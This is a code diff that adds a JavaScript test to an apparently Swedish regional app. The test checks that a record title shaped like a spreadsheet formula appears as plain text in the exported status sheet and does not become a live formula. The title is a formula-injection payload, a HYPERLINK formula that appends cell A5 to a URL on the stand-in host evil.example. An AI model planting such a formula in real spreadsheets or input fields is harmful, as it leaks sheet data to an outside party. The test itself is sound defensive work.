@@ -132,3 +132,16 @@ test('Årsrapport: the year\'s figures, the lists and two charts against the quo
   env.menu('Årsrapport (kansli)…');
   assert.equal(ss.getSheets().length, sheets);
 });
+
+test('a title that looks like a formula stays text in the kansli\'s sheet', async () => {
+  const { server } = ctx;
+  const title = '=HYPERLINK("https://evil.example/?"&A5,"Klicka här")';
+  const created = await server.api('POST', '/provrum', server.tokens['region-ostergotland'], { title });
+  assert.equal(created.status, 201, JSON.stringify(created.body));
+  const { env, ss } = userOf(server, 'reglab');
+  env.menu('Statusöversikt (kansli)');
+  const sheet = ss.getSheetByName('Status');
+  const row = sheet.rows(5, 17).findIndex((r) => r[0] === title);
+  assert.ok(row >= 0, 'the title is shown as it was written');
+  assert.equal(sheet.getRange(5 + row, 1).getFormula(), '', 'and is not a formula');
+});
